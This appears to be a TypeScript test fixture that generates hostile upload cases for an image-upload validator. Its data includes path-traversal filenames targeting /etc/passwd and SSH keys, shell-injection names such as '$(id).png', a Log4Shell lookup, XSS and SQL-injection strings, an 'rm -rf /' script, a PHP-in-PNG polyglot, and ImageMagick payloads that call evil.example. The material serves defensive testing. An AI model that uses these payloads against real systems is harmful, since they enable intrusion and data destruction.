import { gzipSync } from 'node:zlib'
import { rasterCases } from './raster-corpus.ts'
import { vectorCases } from './svg-corpus.ts'
import { svgText, pngOf } from './sample-images.ts'
import type { UploadCase } from './upload-case.ts'

const HTML = '<!doctype html><script>alert(1)</script>'

/** Pictures and what pretends to be one. Larger files are left to the tests of the limits. */
export async function uploadCases(): Promise<UploadCase[]> {
  return [...(await rasterCases()), ...vectorCases(), ...otherFiles()]
}

/** Names that have led others astray; none is ever used for anything. */
export function hostileFileNames(): string[] {
  const up = [
    '../',
    '..\\',
    '....//',
    String.raw`....\\/`,
    '%2e%2e%2f',
    '%252e%252e%252f',
    '..%c0%af',
    '..%5c',
    '.%00./',
    '..;/',
  ]
  const targets = ['etc/passwd', 'windows/win.ini', 'app/src/main.ts', 'rapport.db', 'x.svg', '.ssh/authorized_keys']
  const climbs = up.flatMap((step) => targets.map((target) => step.repeat(8) + target))
  const devices = ['CON', 'PRN', 'AUX', 'NUL', 'COM1', 'LPT9', 'CLOCK$', 'CONIN$']
  const endings = ['', '.png', '.svg', '.txt', ' ', '.', '::$DATA', ':x.svg']
  const reserved = devices.flatMap((device) => endings.map((ending) => device + ending))
  const disguised = [
    '.html',
    '.php',
    '.exe',
    '.js',
    '.htaccess',
    '.svg.html',
    '.php.png',
    '.png.php',
    '.phtml',
    '.shtml',
    '.asp;.png',
    '.jsp%00.png',
    '.png/x.php',
  ]
  return [...climbs, ...reserved, ...disguised.flatMap((ending) => [`a${ending}`, ending.toUpperCase()]), ...singular()]
}

function singular(): string[] {
  return [
    '/etc/passwd',
    '//server/share/x.png',
    String.raw`\\server\share\x.png`,
    String.raw`C:\autoexec.bat`,
    'C:x.png',
    'file:///etc/passwd',
    'https://evil.example/x.svg',
    'data:text/html,x',
    'a\u202Egnp.exe',
    '\u202E\u2066x.png',
    'a\uFEFFb.png',
    'a\u0000b.png',
    'a\nb.png',
    'a\r\nX-Header: b.png',
    'a\tb.png',
    'a\u0007b.png',
    'a\u001B[31mb.png',
    'a\u2028b.png',
    'a.png\u0000.html',
    'a"; filename="b.html',
    "a'b.png",
    'a;b.png',
    '.htaccess',
    '.env',
    '~',
    '~root/x',
    '-rf',
    '--help.png',
    '*',
    '?',
    '|id',
    '$(id).png',
    '`id`.svg',
    '%n%n%n%n.png',
    '{{7*7}}.png',
    '${jndi:ldap://evil.example}',
    '<script>alert(1)</script>.svg',
    '<img src=x onerror=alert(1)>.png',
    "' or 1=1 --.svg",
    'x'.repeat(255),
    'x'.repeat(256),
    'x'.repeat(5000),
    'ä'.repeat(120),
    '👩‍❤️‍👨'.repeat(60),
    'e\u0301.png',
    '\uD800.png',
    '一'.repeat(90),
    '__proto__',
    'constructor',
    ' ',
    '.',
    '..',
  ]
}

/** By their first bytes. */
const FORMATS: Record<string, string> = {
  'a gif': 'GIF89a\x01\x00\x01\x00\x00\x00\x00;',
  'an old gif': 'GIF87a\x01\x00\x01\x00\x00\x00\x00;',
  'a gif with HTML': `GIF89a/*${HTML}*/=1;`,
  'a gif that moves': 'GIF89a\x01\0\x01\0\0\0\0!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0;',
  'a webp': 'RIFF\x1a\x00\x00\x00WEBPVP8L',
  'a webp that moves': 'RIFF\x1a\x00\x00\x00WEBPVP8X\x0a\0\0\0\x02',
  'a bmp': 'BM\x00\x00\x00\x00',
  'a tiff': 'II*\x00\x08\0\0\0',
  'a large tiff': 'MM\x00+\x00\x08\0\0',
  'an avif': '\x00\x00\x00\x1cftypavif',
  'a heic': '\x00\x00\x00\x1cftypheic',
  'a jxl': '\xff\x0a\0\0',
  'a jp2': '\x00\x00\x00\x0cjP  \r\n\x87\n',
  'a jpeg-ls': '\xff\xd8\xf7',
  'an ico': '\x00\x00\x01\x00\x01\0',
  'a psd': '8BPS\0\x01',
  'an xcf': 'gimp xcf v011',
  'a dds': 'DDS \x7c\0\0\0',
  'a pnm': 'P6 1 1 255 abc',
  'an hdr': '#?RADIANCE\n',
  'an exr': 'v/1\x01\x02\0\0\0',
  'a fits': 'SIMPLE  =                    T',
  'a wmf': '\xd7\xcd\xc6\x9a',
  'an emf': '\x01\0\0\0',
  'an eps': '%!PS-Adobe-3.0 EPSF-3.0\n',
  'an mng': '\x8aMNG\r\n\x1a\n',
  'a jng': '\x8bJNG\r\n\x1a\n',
  'a mat': 'MATLAB 5.0 MAT-file',
  'a vips image': '\xb6\xa6\xf2\x08',
  'a pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>',
  'a zip': 'PK\x03\x04',
  'a gzip': '\x1f\x8b\x08',
  'a 7z': "7z\xbc\xaf'\x1c",
  'an exe': 'MZ\x90\x00',
  'an elf': '\x7fELF\x02\x01\x01',
  'a class': '\xca\xfe\xba\xbe',
  'a wasm': '\0asm\x01\0\0\0',
  'a flash film': 'CWS\x0a',
  'a film': '\x00\x00\x00\x18ftypmp42',
  'a sound': 'ID3\x03\0',
  'a database': 'SQLite format 3\0',
  'a font': 'wOF2\0\x01\0\0',
}

function otherFiles(): UploadCase[] {
  const png = pngOf(3)
  const svg = svgText(3)
  const files: Record<string, string | Buffer> = {
    ...FORMATS,
    html: HTML,
    xhtml: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    xml: '<?xml version="1.0"?><x/>',
    'a style sheet of XML': '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
    'a script': '#!/bin/sh\nrm -rf /\n',
    json: '{"a":1}',
    css: '@import url(https://evil.example);',
    'a packed svg': gzipSync(svg),
    'a php in a png': Buffer.concat([Buffer.from('<?php phpinfo(); ?>'), png]),
    'a png after a blank': Buffer.concat([Buffer.from(' '), png]),
    'a png after a byte order mark': Buffer.concat([Buffer.from('\uFEFF'), png]),
    'a png backwards': Buffer.from(Uint8Array.from(png).toReversed()),
    'a png in base64': png.toString('base64'),
    'a png as an address': `data:image/png;base64,${png.toString('base64')}`,
    'MVG of ImageMagick': 'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 "https://evil.example"',
    'MSL of ImageMagick': '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
    'one byte': '\x89',
    zeros: Buffer.alloc(100_000),
    blanks: ' '.repeat(100_000),
    angles: '<'.repeat(100_000),
    'long names': `<${'a'.repeat(50)}`.repeat(10_000),
  }
  return Object.entries(files).map(([name, content]) => {
    return { name, bytes: typeof content === 'string' ? Buffer.from(content, 'latin1') : content, good: 'neither' }
  })
}
